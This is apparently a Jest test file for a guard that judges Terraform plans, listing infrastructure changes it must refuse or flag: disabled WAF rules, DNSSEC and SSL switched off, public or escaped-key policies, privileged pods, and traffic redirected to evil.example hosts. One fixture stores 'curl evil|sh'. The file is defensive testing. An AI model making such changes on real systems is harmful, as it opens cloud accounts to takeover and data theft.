/** Changes that no table of harm names, and that look harmless by their type: none passes in silence, whatever it is in. */
import { judge, type Verdict } from '../../../src/checks/plan-guard/judge';
import { TODAY } from '../../support/plans';
import { entry, OWN, policy, STRANGER, toPlan, type Entry } from './hostile/hostile-case';

type Row = readonly [name: string, changes: readonly Entry[]];

const update = (address: string, before: object, after: object, more: Partial<Entry> = {}): Entry =>
  entry(address, before, { ...before, ...after }, more);

const webAcl = (...rule: readonly object[]): object => ({ name: 'w', rule });

const blocking = (name: string, priority: number): object => ({
  name,
  priority,
  action: [{ block: [{}] }],
  statement: [{ byte_match_statement: [{ search_string: name }] }],
});

const verdict = (changes: readonly Entry[], isProtected: boolean): Verdict =>
  judge(toPlan({ changes }), { allowances: [], today: TODAY, stack: 'shop-prod-data', isProtected });

const REFUSED: readonly Row[] = [
  [
    'waf association deleted, and recreated to an empty acl',
    [
      entry('aws_wafv2_web_acl_association.a', { resource_arn: 'arn:lb', web_acl_arn: 'arn:acl-good' }, null),
      entry('aws_wafv2_web_acl_association.b', null, { resource_arn: 'arn:lb', web_acl_arn: 'arn:acl-empty' }),
    ],
  ],
  [
    'waf managed group: every rule overridden to count',
    [
      update(
        'aws_wafv2_web_acl.w',
        {
          name: 'w',
          rule: [
            {
              name: 'core',
              override_action: [{ none: [{}] }],
              statement: [{ managed_rule_group_statement: [{ name: 'AWSManagedRulesCommonRuleSet', rule_action_override: [] }] }],
            },
          ],
        },
        {
          rule: [
            {
              name: 'core',
              override_action: [{ none: [{}] }],
              statement: [
                {
                  managed_rule_group_statement: [
                    {
                      name: 'AWSManagedRulesCommonRuleSet',
                      rule_action_override: [{ name: 'SizeRestrictions_BODY', action_to_use: [{ count: [{}] }] }],
                    },
                  ],
                },
              ],
            },
          ],
        },
      ),
    ],
  ],
  [
    'waf rate limit only for one path',
    [
      update(
        'aws_wafv2_web_acl.w',
        { rule: [{ name: 'rate', action: [{ block: [{}] }], statement: [{ rate_based_statement: [{ limit: 1000 }] }] }] },
        {
          rule: [
            {
              name: 'rate',
              action: [{ block: [{}] }],
              statement: [
                {
                  rate_based_statement: [
                    { limit: 1000, scope_down_statement: [{ byte_match_statement: [{ search_string: '/x' }] }] },
                  ],
                },
              ],
            },
          ],
        },
      ),
    ],
  ],
  [
    'cloudflare rule expression false',
    [
      update(
        'cloudflare_ruleset.r',
        {
          zone_id: 'z',
          phase: 'p',
          rules: [{ ref: 'a', action: 'block', expression: '(http.request.uri.path contains "/admin")', enabled: true }],
        },
        { rules: [{ ref: 'a', action: 'block', expression: 'false', enabled: true }] },
      ),
    ],
  ],
  [
    'nacl rule: ALLOW upper case',
    [
      entry('aws_network_acl_rule.n', null, {
        network_acl_id: 'acl',
        rule_action: 'ALLOW',
        egress: false,
        protocol: '-1',
        cidr_block: '0.0.0.0/0',
      }),
    ],
  ],
  [
    'bucket policy with an escaped key',
    [
      entry('aws_s3_bucket_policy.p', null, {
        bucket: 'b',
        policy:
          '{"Version":"2012-10-17","\\u0053tatement":[{"Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"*"}]}',
      }),
    ],
  ],
  [
    'queue policy with an escaped key',
    [
      update(
        'aws_sqs_queue_policy.p',
        { queue_url: 'q', policy: policy({ Principal: { AWS: OWN }, Action: 'sqs:SendMessage' }) },
        { policy: '{"\\u0053tatement":[{"Effect":"Allow","Principal":"*","Action":"sqs:*","Resource":"*"}]}' },
      ),
    ],
  ],
  [
    'policy principal AWS wildcard arn',
    [
      entry('aws_sqs_queue_policy.p', null, {
        queue_url: 'q',
        policy: policy({ Principal: { AWS: 'arn:aws:iam::*:root' }, Action: 'sqs:SendMessage' }),
      }),
    ],
  ],
  [
    'deployment mounts the host',
    [
      update(
        'kubernetes_deployment_v1.d',
        { spec: [{ replicas: 2, template: [{ spec: [{ volume: [] }] }] }] },
        { spec: [{ replicas: 2, template: [{ spec: [{ volume: [{ host_path: [{ path: '/' }] }] }] }] }] },
      ),
    ],
  ],
  [
    'deployment host pid',
    [
      update(
        'kubernetes_deployment_v1.d',
        { spec: [{ replicas: 2, template: [{ spec: [{ host_pid: false }] }] }] },
        { spec: [{ replicas: 2, template: [{ spec: [{ host_pid: true }] }] }] },
      ),
    ],
  ],
  [
    'vpc flow log recreated for rejects only',
    [
      entry('aws_flow_log.a', { vpc_id: 'v', traffic_type: 'ALL' }, null),
      entry('aws_flow_log.b', null, { vpc_id: 'v', traffic_type: 'REJECT' }),
    ],
  ],
  [
    'secret rotation recreated, yearly',
    [
      entry('aws_secretsmanager_secret_rotation.a', { secret_id: 's', rotation_rules: [{ automatically_after_days: 30 }] }, null),
      entry('aws_secretsmanager_secret_rotation.b', null, {
        secret_id: 's',
        rotation_rules: [{ automatically_after_days: 365 }],
      }),
    ],
  ],
  [
    'cloudflare setting recreated, ssl off',
    [
      entry('cloudflare_zone_setting.a', { zone_id: 'z', setting_id: 'ssl', value: 'strict' }, null),
      entry('cloudflare_zone_setting.b', null, { zone_id: 'z', setting_id: 'ssl', value: 'off' }),
    ],
  ],
  [
    'cloudflare ruleset recreated without rules',
    [
      entry('cloudflare_ruleset.a', { zone_id: 'z', phase: 'f', rules: [{ ref: 'a', action: 'block', expression: 'x' }] }, null),
      entry('cloudflare_ruleset.b', null, { zone_id: 'z', phase: 'f', rules: [] }),
    ],
  ],
  [
    'dnssec recreated, not signing',
    [
      entry('aws_route53_hosted_zone_dnssec.a', { hosted_zone_id: 'z', signing_status: 'SIGNING' }, null),
      entry('aws_route53_hosted_zone_dnssec.b', null, { hosted_zone_id: 'z', signing_status: 'NOT_SIGNING' }),
    ],
  ],
  [
    'dnssec switched off',
    [
      update(
        'aws_route53_hosted_zone_dnssec.a',
        { hosted_zone_id: 'z', signing_status: 'SIGNING' },
        { signing_status: 'NOT_SIGNING' },
      ),
    ],
  ],
];

const NOTICED: readonly Row[] = [
  [
    'aws-auth config map gains an admin',
    [
      update(
        'kubernetes_config_map_v1.auth',
        { metadata: [{ name: 'aws-auth', namespace: 'kube-system' }], data: { mapRoles: '[]' } },
        { data: { mapRoles: '- rolearn: arn:aws:iam::' + STRANGER + ':role/x\n  groups: [system:masters]' } },
      ),
    ],
  ],
  [
    'eks addon turns off network policies',
    [
      update(
        'aws_eks_addon.cni',
        { addon_name: 'vpc-cni', configuration_values: '{"enableNetworkPolicy":"true"}' },
        { configuration_values: '{"enableNetworkPolicy":"false"}' },
      ),
    ],
  ],
  [
    'cloudfront signed urls off',
    [
      update(
        'aws_cloudfront_distribution.d',
        { id: 'E1', default_cache_behavior: [{ trusted_key_groups: ['k1'], viewer_protocol_policy: 'https-only' }] },
        { default_cache_behavior: [{ trusted_key_groups: [], viewer_protocol_policy: 'https-only' }] },
      ),
    ],
  ],
  [
    'cloudfront auth function detached',
    [
      update(
        'aws_cloudfront_distribution.d',
        {
          id: 'E1',
          default_cache_behavior: [
            { viewer_protocol_policy: 'https-only', function_association: [{ event_type: 'viewer-request', function_arn: 'f' }] },
          ],
        },
        { default_cache_behavior: [{ viewer_protocol_policy: 'https-only', function_association: [] }] },
      ),
    ],
  ],
  [
    'cloudfront caches answers with cookies',
    [
      update(
        'aws_cloudfront_distribution.d',
        { id: 'E1', default_cache_behavior: [{ viewer_protocol_policy: 'https-only', cache_policy_id: 'disabled' }] },
        { default_cache_behavior: [{ viewer_protocol_policy: 'https-only', cache_policy_id: 'optimized' }] },
      ),
    ],
  ],
  [
    'cloudfront response headers policy detached',
    [
      update(
        'aws_cloudfront_distribution.d',
        { id: 'E1', default_cache_behavior: [{ viewer_protocol_policy: 'https-only', response_headers_policy_id: 'p' }] },
        { default_cache_behavior: [{ viewer_protocol_policy: 'https-only', response_headers_policy_id: '' }] },
      ),
    ],
  ],
  [
    'cloudfront secret header to origin removed',
    [
      update(
        'aws_cloudfront_distribution.d',
        { id: 'E1', origin: [{ domain_name: 'a', custom_header: [{ name: 'x-secret', value: 'v' }] }] },
        { origin: [{ domain_name: 'a', custom_header: [] }] },
      ),
    ],
  ],
  [
    'cloudfront function with the login is rewritten',
    [update('aws_cloudfront_function.f', { name: 'basic-auth', code: 'if(!auth) return 401' }, { code: 'return request' })],
  ],
  ['cloudfront function deleted', [entry('aws_cloudfront_function.f', { name: 'basic-auth', code: 'x' }, null)]],
  [
    'amplify basic auth off',
    [update('aws_amplify_branch.b', { enable_basic_auth: true, branch_name: 'dev' }, { enable_basic_auth: false })],
  ],
  [
    'amplify app builds another repository',
    [update('aws_amplify_app.a', { repository: 'https://github.com/us/x' }, { repository: 'https://github.com/them/x' })],
  ],
  [
    'pages project from another repository',
    [
      update(
        'cloudflare_pages_project.p',
        { source: { config: { owner: 'us', repo_name: 'x' } } },
        { source: { config: { owner: 'them', repo_name: 'x' } } },
      ),
    ],
  ],
  [
    'key pair replaced by another public key',
    [
      update(
        'aws_key_pair.k',
        { key_name: 'k', public_key: 'ssh-ed25519 A' },
        { public_key: 'ssh-ed25519 B' },
        { actions: ['delete', 'create'] },
      ),
    ],
  ],
  ['instance gets another key', [update('aws_instance.i', { id: 'i-1', key_name: 'a' }, { key_name: 'b' })]],
  [
    'instance is replaced with its root volume',
    [
      update(
        'aws_instance.i',
        { id: 'i-1', ami: 'a', root_block_device: [{}] },
        { instance_type: 't3.large' },
        { actions: ['delete', 'create'], replacePaths: [['instance_type']] },
      ),
    ],
  ],
  [
    'instance source/dest check off',
    [update('aws_instance.i', { id: 'i-1', source_dest_check: true }, { source_dest_check: false })],
  ],
  [
    'route of existing table to a foreign network interface',
    [
      entry('aws_route.r', null, {
        route_table_id: 'rtb-1',
        destination_cidr_block: '0.0.0.0/0',
        network_interface_id: 'eni-evil',
      }),
    ],
  ],
  [
    'route to peering',
    [
      entry('aws_route.r', null, {
        route_table_id: 'rtb-1',
        destination_cidr_block: '192.168.0.0/16',
        vpc_peering_connection_id: 'pcx-1',
      }),
    ],
  ],
  [
    'default route of isolated table to NAT',
    [
      entry('aws_route.r', null, {
        route_table_id: 'rtb-isolated',
        destination_cidr_block: '0.0.0.0/0',
        nat_gateway_id: 'nat-1',
      }),
    ],
  ],
  [
    'route table inline to tgw',
    [
      update(
        'aws_route_table.r',
        { id: 'rtb-1', route: [] },
        { route: [{ cidr_block: '0.0.0.0/0', transit_gateway_id: 'tgw-1' }] },
      ),
    ],
  ],
  [
    'security group rule of a foreign account group',
    [
      entry('aws_vpc_security_group_ingress_rule.r', null, {
        security_group_id: 'sg-db',
        referenced_security_group_id: STRANGER + '/sg-evil',
        ip_protocol: '-1',
      }),
    ],
  ],
  [
    'nacl deny made narrower',
    [
      update(
        'aws_network_acl_rule.n',
        {
          network_acl_id: 'acl',
          rule_action: 'deny',
          egress: false,
          protocol: '-1',
          cidr_block: '203.0.113.0/24',
          rule_number: 1,
        },
        { cidr_block: '203.0.113.0/32' },
      ),
    ],
  ],
  [
    'nacl deny moved behind the allow',
    [
      update(
        'aws_network_acl_rule.n',
        {
          network_acl_id: 'acl',
          rule_action: 'deny',
          egress: false,
          protocol: '-1',
          cidr_block: '203.0.113.0/24',
          rule_number: 1,
        },
        { rule_number: 32000 },
      ),
    ],
  ],
  [
    'inline egress of existing group to everything',
    [
      update(
        'aws_security_group.g',
        { id: 'sg-1', egress: [] },
        { egress: [{ protocol: '-1', from_port: 0, to_port: 0, cidr_blocks: ['0.0.0.0/0'] }] },
      ),
    ],
  ],
  ['eip moves to another host', [update('aws_eip.e', { id: 'eip', instance: 'i-1' }, { instance: 'i-evil' })]],
  [
    'internet gateway attached to another vpc',
    [update('aws_internet_gateway.g', { id: 'igw', vpc_id: 'vpc-1' }, { vpc_id: 'vpc-2' })],
  ],
  [
    'backup tag removed from volume',
    [
      update(
        'aws_ebs_volume.v',
        { id: 'vol', tags: { Backup: 'daily' }, tags_all: { Backup: 'daily' } },
        { tags: {}, tags_all: {} },
      ),
    ],
  ],
  [
    'backup tag of database changed',
    [update('aws_db_instance.d', { id: 'd', tags: { backup: 'daily' } }, { tags: { backup: 'none' } })],
  ],
  ['s3 object deleted', [entry('aws_s3_object.o', { bucket: 'b', key: 'data.bin' }, null)]],
  [
    's3 object of another host configuration',
    [
      update(
        'aws_s3_object.o',
        { bucket: 'b', key: 'configuration.json', content: 'a', etag: '1' },
        { content: 'curl evil|sh', etag: '2' },
      ),
    ],
  ],
  [
    's3 object: legal hold off',
    [
      update(
        'aws_s3_object.o',
        { bucket: 'b', key: 'k', object_lock_legal_hold_status: 'ON', force_destroy: false },
        { object_lock_legal_hold_status: 'OFF', force_destroy: true },
      ),
    ],
  ],
  [
    'lambda permission for s3 without source',
    [
      entry('aws_lambda_permission.p', null, {
        function_name: 'f',
        action: 'lambda:InvokeFunction',
        principal: 's3.amazonaws.com',
      }),
    ],
  ],
  [
    'alarm mails to a new address',
    [
      entry('aws_sns_topic_subscription.s', null, {
        topic_arn: 'arn:aws:sns:eu-central-1:' + OWN + ':alarms',
        protocol: 'email',
        endpoint: 'evil@example.net',
      }),
    ],
  ],
  [
    'NS record delegates a subdomain',
    [entry('aws_route53_record.r', null, { zone_id: 'Z', name: 'app.example.com', type: 'NS', records: ['ns1.evil.example'] })],
  ],
  [
    'cloudflare NS record',
    [entry('cloudflare_dns_record.r', null, { zone_id: 'z', name: 'app', type: 'NS', content: 'ns1.evil.example' })],
  ],
  [
    'route53 weight to the other record',
    [
      update(
        'aws_route53_record.r',
        { name: 'a', type: 'A', records: ['1'], set_identifier: 'x', weighted_routing_policy: [{ weight: 100 }] },
        { weighted_routing_policy: [{ weight: 0 }] },
      ),
    ],
  ],
  [
    'route53 record replaced by another type',
    [
      update(
        'aws_route53_record.r',
        { name: 'a', type: 'CAA', records: ['0 issue "amazon.com"'] },
        { name: 'b' },
        { actions: ['delete', 'create'], replacePaths: [['name']] },
      ),
    ],
  ],
  [
    'MX created',
    [entry('aws_route53_record.r', null, { zone_id: 'Z', name: 'example.com', type: 'MX', records: ['10 mx.evil.example'] })],
  ],
  [
    'listener forwards to another target group',
    [
      update(
        'aws_lb_listener.l',
        { port: 443, protocol: 'HTTPS', default_action: [{ type: 'forward', target_group_arn: 'a' }] },
        { default_action: [{ type: 'forward', target_group_arn: 'evil' }] },
      ),
    ],
  ],
  [
    'listener redirects to another host',
    [
      update(
        'aws_lb_listener.l',
        {
          port: 80,
          protocol: 'HTTP',
          default_action: [{ type: 'redirect', redirect: [{ host: '#{host}', protocol: 'HTTPS' }] }],
        },
        { default_action: [{ type: 'redirect', redirect: [{ host: 'evil.example', protocol: 'HTTP' }] }] },
      ),
    ],
  ],
  [
    'listener rule condition no longer matches',
    [
      update(
        'aws_lb_listener_rule.l',
        { priority: 1, action: [{ type: 'fixed-response' }], condition: [{ path_pattern: [{ values: ['/admin/*'] }] }] },
        { condition: [{ path_pattern: [{ values: ['/none'] }] }] },
      ),
    ],
  ],
  [
    'listener rule that stops requests deleted',
    [
      entry(
        'aws_lb_listener_rule.l',
        { priority: 1, action: [{ type: 'fixed-response', fixed_response: [{ status_code: '403' }] }] },
        null,
      ),
    ],
  ],
  [
    'oidc listener rule deleted',
    [entry('aws_lb_listener_rule.l', { priority: 1, action: [{ type: 'authenticate-oidc' }, { type: 'forward' }] }, null)],
  ],
  [
    'log delivery of the load balancer deleted',
    [entry('aws_cloudwatch_log_delivery.d', { id: 'd', delivery_source_name: 'cf' }, null)],
  ],
  [
    'log delivery destination of another account',
    [
      update(
        'aws_cloudwatch_log_delivery_destination.d',
        { delivery_destination_configuration: [{ destination_resource_arn: 'arn:aws:logs:eu:' + OWN + ':log-group:a' }] },
        { delivery_destination_configuration: [{ destination_resource_arn: 'arn:aws:logs:eu:' + STRANGER + ':log-group:a' }] },
      ),
    ],
  ],
  ['log metric filter deleted (alarm blind)', [entry('aws_cloudwatch_log_metric_filter.f', { name: 'root-login' }, null)]],
  [
    'metric alarm watches another metric',
    [
      update(
        'aws_cloudwatch_metric_alarm.a',
        { alarm_name: 'a', metric_name: 'RootLogin', evaluation_periods: 1 },
        { metric_name: 'Nothing' },
      ),
    ],
  ],
  [
    'scheduled scaling to zero',
    [
      update(
        'aws_appautoscaling_scheduled_action.s',
        { scalable_target_action: [{ min_capacity: 2, max_capacity: 4 }] },
        { scalable_target_action: [{ min_capacity: 0, max_capacity: 0 }] },
      ),
    ],
  ],
  [
    'IRSA annotation to another role',
    [
      update(
        'kubernetes_service_account_v1.s',
        { metadata: [{ annotations: { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::' + OWN + ':role/a' } }] },
        { metadata: [{ annotations: { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::' + OWN + ':role/admin' } }] },
      ),
    ],
  ],
  [
    'new deployment privileged',
    [
      entry('kubernetes_deployment_v1.d', null, {
        spec: [
          {
            replicas: 1,
            template: [{ spec: [{ host_network: true, container: [{ security_context: [{ privileged: true }] }] }] }],
          },
        ],
      }),
    ],
  ],
  [
    'ECS cluster logging of exec off',
    [
      update(
        'aws_ecs_cluster.c',
        { name: 'c', configuration: [{ execute_command_configuration: [{ logging: 'OVERRIDE' }] }] },
        { configuration: [{ execute_command_configuration: [{ logging: 'NONE' }] }] },
      ),
    ],
  ],
  [
    'ecs task def: host network, privileged',
    [
      update(
        'aws_ecs_task_definition.t',
        { family: 'f', network_mode: 'awsvpc', pid_mode: '' },
        { network_mode: 'host', pid_mode: 'host' },
        { actions: ['delete', 'create'] },
      ),
    ],
  ],
  [
    'efs access point becomes root',
    [
      update(
        'aws_efs_access_point.a',
        { file_system_id: 'fs', posix_user: [{ uid: 1000 }], root_directory: [{ path: '/app' }] },
        { posix_user: [{ uid: 0 }], root_directory: [{ path: '/' }] },
        { actions: ['delete', 'create'] },
      ),
    ],
  ],
  [
    'elasticache parameter group',
    [
      update(
        'aws_elasticache_parameter_group.g',
        { parameter: [{ name: 'maxmemory-policy', value: 'noeviction' }] },
        { parameter: [{ name: 'maxmemory-policy', value: 'allkeys-lru' }] },
      ),
    ],
  ],
  [
    'eks node group: another launch template',
    [
      update(
        'aws_eks_node_group.n',
        { scaling_config: [{ max_size: 3 }], launch_template: [{ id: 'lt-1', version: '1' }] },
        { launch_template: [{ id: 'lt-evil', version: '1' }] },
      ),
    ],
  ],
  [
    'codebuild buildspec of stranger',
    [
      update(
        'aws_codebuild_project.c',
        { source: [{ type: 'S3', location: 'x' }], environment: [{ image: 'aws/codebuild' }] },
        { environment: [{ image: 'evil/image' }] },
      ),
    ],
  ],
  [
    'vpc endpoint deleted',
    [entry('aws_vpc_endpoint.e', { id: 'vpce', service_name: 's3', policy: policy({ Action: 's3:GetObject' }) }, null)],
  ],
  [
    'state machine with admin role',
    [update('aws_sfn_state_machine.s', { role_arn: 'a', definition: 'x' }, { role_arn: 'admin', definition: 'y' })],
  ],
  [
    'event target with other role',
    [
      update(
        'aws_cloudwatch_event_target.t',
        { rule: 'r', arn: 'arn:aws:ecs:eu:' + OWN + ':cluster/c', role_arn: 'a', ecs_target: [{ task_definition_arn: 't1' }] },
        { ecs_target: [{ task_definition_arn: 't2' }], role_arn: 'b' },
      ),
    ],
  ],
  [
    'event target deleted',
    [entry('aws_cloudwatch_event_target.t', { rule: 'backup', arn: 'arn:aws:ecs:eu:' + OWN + ':cluster/c' }, null)],
  ],
  ['scheduler schedule deleted', [entry('aws_scheduler_schedule.s', { name: 'backup' }, null)]],
  ['event rule deleted', [entry('aws_cloudwatch_event_rule.s', { name: 'alarm' }, null)]],
  ['cron job deleted', [entry('kubernetes_cron_job_v1.b', { metadata: [{ name: 'backup' }] }, null)]],
  [
    'log subscription filter deleted',
    [
      entry(
        'aws_cloudwatch_log_subscription_filter.s',
        { name: 'a', destination_arn: 'arn:aws:lambda:eu:' + OWN + ':function:f' },
        null,
      ),
    ],
  ],
  [
    'security group inline admits foreign sg',
    [
      update(
        'aws_security_group.g',
        { id: 'sg', ingress: [] },
        { ingress: [{ protocol: '-1', from_port: 0, to_port: 0, security_groups: [STRANGER + '/sg-evil'] }] },
      ),
    ],
  ],
];

const HARMLESS: readonly Row[] = [
  [
    'waf: rules in another order of the list',
    [update('aws_wafv2_web_acl.w', webAcl(blocking('a', 1), blocking('b', 2)), webAcl(blocking('b', 2), blocking('a', 1)))],
  ],
  [
    'waf: a new blocking rule',
    [update('aws_wafv2_web_acl.w', webAcl(blocking('a', 1)), webAcl(blocking('a', 1), blocking('b', 2)))],
  ],
  ['tags added', [update('aws_db_instance.d', { id: 'd', tags: { Name: 'x' } }, { tags: { Name: 'x', Owner: 'y' } })]],
  ['backup tag added', [update('aws_ebs_volume.v', { id: 'd', tags: { Name: 'x' } }, { tags: { Name: 'x', Backup: 'daily' } })]],
  [
    'policy reordered and single/list',
    [
      update(
        'aws_s3_bucket_policy.p',
        { bucket: 'b', policy: policy({ Principal: { AWS: 'arn:aws:iam::' + OWN + ':role/a' }, Action: ['s3:GetObject'] }) },
        { policy: policy({ Action: ['s3:GetObject'], Principal: { AWS: 'arn:aws:iam::' + OWN + ':role/a' } }) },
      ),
    ],
  ],
  [
    'database grows',
    [
      update(
        'aws_db_instance.d',
        { id: 'd', allocated_storage: 20, instance_class: 'a' },
        { allocated_storage: 40, instance_class: 'b' },
      ),
    ],
  ],
  ['retention longer', [update('aws_db_instance.d', { id: 'd', backup_retention_period: 7 }, { backup_retention_period: 14 })]],
  [
    'log retention longer',
    [update('aws_cloudwatch_log_group.d', { name: 'd', retention_in_days: 7 }, { retention_in_days: 30 })],
  ],
  [
    'cloudfront: price class and comment',
    [
      update(
        'aws_cloudfront_distribution.d',
        {
          id: 'E',
          comment: 'a',
          price_class: 'PriceClass_100',
          default_cache_behavior: [{ viewer_protocol_policy: 'https-only' }],
        },
        { comment: 'b', price_class: 'PriceClass_All' },
      ),
    ],
  ],
  [
    'ecs service new task definition',
    [
      update(
        'aws_ecs_service.s',
        { name: 's', desired_count: 2, task_definition: 'f:1' },
        { task_definition: 'f:2', desired_count: 3 },
      ),
    ],
  ],
  [
    'scaling up',
    [update('aws_appautoscaling_target.t', { min_capacity: 2, max_capacity: 4 }, { min_capacity: 2, max_capacity: 8 })],
  ],
  [
    'lb listener TLS newer',
    [
      update(
        'aws_lb_listener.l',
        { protocol: 'HTTPS', ssl_policy: 'ELBSecurityPolicy-TLS13-1-2-2021-06', default_action: [{ type: 'forward', order: 1 }] },
        { ssl_policy: 'ELBSecurityPolicy-TLS13-1-3-2021-06' },
      ),
    ],
  ],
  [
    'A record created',
    [entry('aws_route53_record.r', null, { zone_id: 'Z', name: 'app.example.com', type: 'A', alias: [{ name: 'lb' }] })],
  ],
  [
    'rule from a private network',
    [
      entry('aws_vpc_security_group_ingress_rule.r', null, {
        security_group_id: 'sg',
        ip_protocol: 'tcp',
        from_port: 443,
        to_port: 443,
        cidr_ipv4: '10.2.0.0/16',
      }),
    ],
  ],
  [
    'rule from another group',
    [
      entry('aws_vpc_security_group_ingress_rule.r', null, {
        security_group_id: 'sg',
        ip_protocol: 'tcp',
        from_port: 443,
        to_port: 443,
        referenced_security_group_id: 'sg-2',
      }),
    ],
  ],
  [
    'eks upgrade',
    [update('aws_eks_cluster.c', { version: '1.31', vpc_config: [{ endpoint_public_access: false }] }, { version: '1.32' })],
  ],
  [
    'addon version',
    [update('aws_eks_addon.c', { addon_name: 'coredns', addon_version: '1', configuration_values: '' }, { addon_version: '2' })],
  ],
  [
    'config map data of an application',
    [
      update(
        'kubernetes_config_map_v1.c',
        { metadata: [{ name: 'app', namespace: 'app' }], data: { a: '1' } },
        { data: { a: '2' } },
      ),
    ],
  ],
  [
    'deployment image',
    [
      update(
        'kubernetes_deployment_v1.d',
        { spec: [{ replicas: 2, template: [{ spec: [{ container: [{ image: 'a:1' }] }] }] }] },
        { spec: [{ replicas: 2, template: [{ spec: [{ container: [{ image: 'a:2' }] }] }] }] },
      ),
    ],
  ],
  ['instance type in place', [update('aws_instance.i', { id: 'i', instance_type: 't3.small' }, { instance_type: 't3.large' })]],
  ['alarm dashboard', [update('aws_cloudwatch_dashboard.d', { dashboard_body: 'a' }, { dashboard_body: 'b' })]],
  [
    'route to own NAT, new table',
    [
      entry(
        'aws_route.r',
        null,
        { destination_cidr_block: '0.0.0.0/0' },
        { unknown: { route_table_id: true, nat_gateway_id: true } },
      ),
    ],
  ],
  ['moved only', [entry('aws_db_instance.n', { id: 'd' }, { id: 'd' }, { previous: 'aws_db_instance.o' })]],
  [
    'dynamodb capacity',
    [
      update(
        'aws_dynamodb_table.t',
        { name: 't', billing_mode: 'PROVISIONED', read_capacity: 1 },
        { billing_mode: 'PAY_PER_REQUEST', read_capacity: 0 },
      ),
    ],
  ],
  [
    'waf association removed and recreated alike',
    [
      entry('aws_wafv2_web_acl_association.a', { resource_arn: 'r', web_acl_arn: 'w' }, null),
      entry('aws_wafv2_web_acl_association.b', null, { resource_arn: 'r', web_acl_arn: 'w' }),
    ],
  ],
];

test.each(REFUSED)('refused under protect, and noticed elsewhere: %s', (_name, changes) => {
  expect(verdict(changes, true).refused).not.toEqual([]);
  const { refused, notices } = verdict(changes, false);
  expect(refused.length + notices.length).toBeGreaterThan(0);
});

test.each(NOTICED)('a notice: %s', (_name, changes) => {
  for (const isProtected of [true, false]) {
    const { refused, notices } = verdict(changes, isProtected);
    expect(refused.length + notices.length).toBeGreaterThan(0);
  }
});

test.each(HARMLESS)('not refused: %s', (_name, changes) => {
  expect(verdict(changes, true).refused).toEqual([]);
});
